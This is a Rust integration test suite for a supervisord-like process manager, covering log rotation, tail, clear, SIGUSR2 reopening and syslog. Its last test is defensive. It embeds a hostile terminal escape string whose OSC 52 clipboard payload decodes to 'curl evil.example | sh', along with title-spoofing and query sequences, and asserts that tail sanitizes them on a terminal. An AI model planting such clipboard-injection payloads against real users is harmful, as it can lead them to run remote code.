//! Output capture and logs: rotation without loss, NONE, redirect_stderr, tail, maintail, clear,
//! SIGUSR2, failures, syslog.

use crate::SOON;
use nix::sys::signal::Signal;
use std::io::Read;
use std::process::{Command, Stdio};
use std::time::Duration;
use tests::{bin, wait_until, Daemon, PtySession, Scratch};

/// The file and its backups concatenated oldest first.
fn rotated(path: &std::path::Path, backups: u32) -> String {
    let mut out = String::new();
    for n in (1..=backups).rev() {
        out.push_str(&std::fs::read_to_string(format!("{}.{n}", path.display())).unwrap_or_default());
    }
    out + &std::fs::read_to_string(path).unwrap_or_default()
}

#[test]
fn rotation_under_a_full_speed_writer_loses_and_reorders_nothing() {
    let s = Scratch::new();
    let (all, few) = (s.path("rot/many.log"), s.path("rot/few.log"));
    let yaml = format!(
        "programs:\n  many:\n    command: seq 1 300000\n    startsecs: 0\n    autorestart: never\n    stdout_logfile: {}\n    stdout_logfile_maxbytes: 64KB\n    stdout_logfile_backups: 100\n  \
         few:\n    command: seq 1 300000\n    startsecs: 0\n    autorestart: never\n    stdout_logfile: {}\n    stdout_logfile_maxbytes: 64KB\n    stdout_logfile_backups: 3\n",
        all.display(),
        few.display()
    );
    let d = Daemon::start_in(s, &yaml);
    let expected: String = (1..=300000).map(|i| format!("{i}\n")).collect();
    wait_until("every line of 'many' in its files", SOON * 3, || rotated(&all, 100).len() == expected.len());
    assert!(rotated(&all, 100) == expected, "the concatenated backups differ from the sequence");
    assert!(std::path::Path::new(&format!("{}.30", all.display())).exists(), "expected many rotations");
    // With 3 backups the files hold exactly the newest bytes, and nothing older is kept.
    d.wait_state("few", "EXITED", SOON);
    wait_until("few's last line in its file", SOON * 3, || rotated(&few, 3).ends_with("300000\n"));
    let kept = rotated(&few, 3);
    assert!(expected.ends_with(&kept) && kept.len() > 3 * 64 * 1024, "kept {} bytes", kept.len());
    for n in 1..=3 {
        assert_eq!(
            std::fs::metadata(format!("{}.{n}", few.display())).unwrap().len(),
            64 * 1024,
            "backup {n} is not exactly maxbytes"
        );
    }
    assert!(!std::path::Path::new(&format!("{}.4", few.display())).exists(), "a backup beyond N was kept");
}

#[test]
fn none_gives_dev_null_and_no_file_and_redirect_stderr_merges() {
    let s = Scratch::new();
    let yaml = "programs:\n  quiet:\n    command: sleep 1000\n    startsecs: 0\n    stdout_logfile: NONE\n    stderr_logfile: NONE\n  \
                merged:\n    command: /bin/sh -c 'echo to-out; echo to-err >&2; exec sleep 1000'\n    startsecs: 0\n    redirect_stderr: true\n";
    let d = Daemon::start_in(s, yaml);
    d.wait_state("quiet", "RUNNING", SOON);
    let pid = d.proc_pid("quiet").unwrap();
    for fd in [1, 2] {
        assert_eq!(
            std::fs::read_link(format!("/proc/{pid}/fd/{fd}")).unwrap(),
            std::path::Path::new("/dev/null"),
            "fd {fd}"
        );
    }
    assert!(!d.log_path("quiet-stdout.log").exists() && !d.log_path("quiet-stderr.log").exists());
    let out = d.log_path("merged-stdout.log");
    wait_until("both streams in merged's stdout log", SOON, || {
        let t = std::fs::read_to_string(&out).unwrap_or_default();
        t.contains("to-out") && t.contains("to-err")
    });
    assert!(!d.log_path("merged-stderr.log").exists());
    let pid = d.proc_pid("merged").unwrap();
    assert_eq!(
        std::fs::read_link(format!("/proc/{pid}/fd/1")).unwrap(),
        std::fs::read_link(format!("/proc/{pid}/fd/2")).unwrap()
    );
}

#[test]
fn tail_returns_the_bytes_asked_for_and_maintail_shows_events() {
    let d = Daemon::start("programs:\n  p:\n    command: /bin/sh -c 'seq 1 1000; echo oops >&2; exec sleep 1000'\n    startsecs: 0\n  brief:\n    command: /bin/sh -c 'exit 7'\n    startretries: 0\n");
    d.wait_state("p", "RUNNING", SOON);
    wait_until("p's output", SOON, || d.ctl(&["tail", "-4", "p"]).stdout == "000\n");
    let run = d.ctl(&["tail", "p"]);
    assert_eq!(run.stdout.len(), 1600, "default tail is 1600 bytes");
    assert!(run.stdout.ends_with("999\n1000\n"));
    assert_eq!(d.ctl(&["tail", "-5", "p", "stderr"]).stdout, "oops\n");
    d.wait_state("brief", "FATAL", SOON);
    let main = d.ctl(&["maintail", "-100000"]).stdout;
    assert!(
        main.contains("spawned: 'brief' with pid") && main.contains("exited: 'brief' (exit status 7; not expected)"),
        "{main}"
    );
    assert_eq!(d.ctl(&["maintail", "-10"]).stdout.len(), 10);
    assert_eq!(d.ctl(&["tail", "p", "stdio"]).code, 2);
}

#[test]
fn tail_f_sees_a_line_written_after_it_started() {
    let s = Scratch::new();
    let trigger = s.path("trigger");
    let yaml = format!("programs:\n  p:\n    command: /bin/sh -c 'echo ready; while [ ! -e {} ]; do sleep 0.02; done; echo late-line; exec sleep 1000'\n    startsecs: 0\n", trigger.display());
    let d = Daemon::start_in(s, &yaml);
    wait_until("ready", SOON, || d.ctl(&["tail", "p"]).stdout == "ready\n");
    let mut child = Command::new(bin("taskmasterctl"))
        .arg("-s")
        .arg(&d.socket)
        .args(["tail", "-f", "-6", "p"])
        .stdout(Stdio::piped())
        .stdin(Stdio::null())
        .spawn()
        .unwrap();
    let mut out = child.stdout.take().unwrap();
    let mut seen = vec![0u8; 6];
    out.read_exact(&mut seen).unwrap();
    assert_eq!(seen, b"ready\n");
    std::fs::write(&trigger, "").unwrap();
    let mut more = vec![0u8; 10];
    out.read_exact(&mut more).unwrap();
    assert_eq!(more, b"late-line\n");
    // The stream ends with a clear line when the process stops.
    assert_eq!(d.ctl(&["stop", "p"]).code, 0);
    let status = child.wait().unwrap();
    assert!(status.success());
}

#[test]
fn clear_empties_the_logs_and_keeps_the_process() {
    let d = Daemon::start("programs:\n  p:\n    command: /bin/sh -c 'seq 1 100; exec sleep 1000'\n    startsecs: 0\n");
    let f = d.log_path("p-stdout.log");
    wait_until("output logged", SOON, || std::fs::metadata(&f).map(|m| m.len()).unwrap_or(0) > 0);
    let pid = d.proc_pid("p");
    assert_eq!(d.ctl(&["clear", "p"]).stdout, "p: cleared\n");
    assert_eq!(std::fs::metadata(&f).unwrap().len(), 0);
    assert_eq!(d.ctl(&["tail", "p"]).stdout, "");
    assert_eq!(d.proc_pid("p"), pid);
}

#[test]
fn sigusr2_reopens_renamed_logs() {
    let d = Daemon::start(
        "programs:\n  p:\n    command: /bin/sh -c 'while :; do echo tick; sleep 0.05; done'\n    startsecs: 0\n",
    );
    let f = d.log_path("p-stdout.log");
    let main = d.log_path("taskmasterd.log");
    wait_until("output logged", SOON, || f.exists() && std::fs::metadata(&f).unwrap().len() > 0);
    std::fs::rename(&f, d.log_path("p-stdout.log.old")).unwrap();
    std::fs::rename(&main, d.log_path("taskmasterd.log.old")).unwrap();
    d.signal(Signal::SIGUSR2);
    wait_until("a new stdout log", SOON, || std::fs::read_to_string(&f).unwrap_or_default().contains("tick"));
    // The supervisor makes its files itself (root no longer does on SIGUSR2): the new main log
    // appears with its next line.
    assert_eq!(d.ctl(&["update"]).code, 0);
    wait_until("a new main log", SOON, || std::fs::read_to_string(&main).unwrap_or_default().contains("no changes"));
    assert!(std::fs::read_to_string(d.log_path("taskmasterd.log.old"))
        .unwrap()
        .contains("received SIGUSR2 indicating log reopen request"));
}

#[test]
fn an_unwritable_log_leaves_the_program_running_and_says_why() {
    let s = Scratch::new();
    let done = s.path("done");
    // A regular file where a directory should be: nobody can create the log.
    std::fs::write(s.path("not-a-dir"), "").unwrap();
    let yaml = format!(
        "programs:\n  p:\n    command: /bin/sh -c 'head -c 2000000 /dev/zero; touch {}; exec sleep 1000'\n    startsecs: 0\n    stdout_logfile: {}\n",
        done.display(),
        s.path("not-a-dir/p.log").display()
    );
    let d = Daemon::start_in(s, &yaml);
    // 2 MB through a 64 KiB pipe: it finishes only if the pipe keeps being drained.
    wait_until("the writer got past a full pipe", SOON, || done.exists());
    assert_eq!(d.state("p"), "RUNNING");
    let desc = d.row("p")["description"].as_str().unwrap().to_owned();
    assert!(desc.contains("(log: cannot open") && desc.contains("Not a directory"), "{desc}");
    d.wait_log("ERRO 'p' stdout: cannot open", SOON);
}

#[test]
fn the_main_log_rotates_at_logfile_maxbytes() {
    let d = Daemon::start_full(
        Scratch::new(),
        "  logfile_maxbytes: 1KB\n  logfile_backups: 2\n",
        "programs:\n  flap:\n    command: /bin/sh -c 'exit 1'\n    startsecs: 0\n    autorestart: always\n",
    );
    let main = d.log_path("taskmasterd.log");
    wait_until("two rotations", SOON, || std::path::Path::new(&format!("{}.2", main.display())).exists());
    assert!(std::fs::metadata(&main).unwrap().len() <= 1024);
    assert!(!std::path::Path::new(&format!("{}.3", main.display())).exists());
}

#[test]
fn syslog_lines_reach_the_syslog_socket() {
    let s = Scratch::new();
    let sock_path = s.path("syslog.sock");
    let sock = std::os::unix::net::UnixDatagram::bind(&sock_path).unwrap();
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(&sock_path, std::fs::Permissions::from_mode(0o666)).unwrap();
    sock.set_read_timeout(Some(Duration::from_millis(200))).unwrap();
    let server = format!("  syslog:\n    facility: local3\n    ident: tmtest\n    socket: {}\n", sock_path.display());
    let d = Daemon::start_full(s, &server, "programs:\n  p:\n    command: /bin/sh -c 'echo hello-syslog; exec sleep 1000'\n    startsecs: 0\n    stdout_syslog: true\n");
    let mut got = Vec::new();
    let mut buf = [0u8; 4096];
    wait_until("main log and program lines in syslog", SOON, || {
        if let Ok(n) = sock.recv(&mut buf) {
            got.push(String::from_utf8_lossy(&buf[..n]).into_owned());
        }
        got.iter().any(|m| m.contains("spawned: 'p'")) && got.iter().any(|m| m.contains("hello-syslog"))
    });
    let main = got.iter().find(|m| m.contains("spawned: 'p'")).unwrap();
    assert!(main.starts_with("<158>") && main.contains("tmtest["), "{main}"); // local3.info
    let line = got.iter().find(|m| m.contains("hello-syslog")).unwrap();
    assert!(line.contains(" p["), "tagged with the process name: {line}");
    drop(d);
}

#[test]
fn tail_on_a_terminal_removes_clipboard_title_and_query_sequences_and_a_pipe_gets_exact_bytes() {
    use crate::fg::{assert_sanitized, HOSTILE};
    let s = Scratch::new();
    let trigger = s.path("trigger");
    let script = s.path("hostile.sh");
    let late = HOSTILE.replace("visible-marker", "late-marker");
    std::fs::write(
        &script,
        format!("{HOSTILE}\nwhile [ ! -e {} ]; do sleep 0.02; done\n{late}\nexec sleep 1000\n", trigger.display()),
    )
    .unwrap();
    let d = Daemon::start_in(
        s,
        &format!("programs:\n  evil:\n    command: /bin/sh {}\n    startsecs: 0\n", script.display()),
    );
    let raw: &[u8] =
        b"\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07\x1b]0;pwned-title\x07\x1b[6n\x1b[31mvisible-marker\x1b[0m\r\n";
    // Into a pipe: the exact bytes, sequences included.
    let piped = || Command::new(bin("taskmasterctl")).arg("-s").arg(&d.socket).args(["tail", "evil"]).output().unwrap();
    wait_until("evil's output", SOON, || piped().stdout == raw);
    let ctl = bin("taskmasterctl");
    let args = |extra: &[&'static str]| -> Vec<std::ffi::OsString> {
        let mut v: Vec<std::ffi::OsString> =
            vec![ctl.clone().into(), "-s".into(), d.socket.clone().into(), "tail".into()];
        v.extend(extra.iter().map(|a| a.into()));
        v
    };
    let spawn =
        |a: &[std::ffi::OsString]| PtySession::spawn(&a.iter().map(|a| a.as_os_str()).collect::<Vec<_>>(), 30, 100);
    // On a terminal: the marker and its colour, nothing else.
    let mut t = spawn(&args(&["evil"]));
    assert!(t.wait().success());
    assert_sanitized(&t.seen);
    // Following on a terminal: the same for what comes later.
    let mut f = spawn(&args(&["-f", "evil"]));
    f.expect("visible-marker\x1b[0m");
    std::fs::write(&trigger, "").unwrap();
    f.expect("\x1b[31mlate-marker\x1b[0m");
    f.send(b"\x04"); // Ctrl-D ends following
    assert!(f.wait().success());
    assert_sanitized(&f.seen);
}
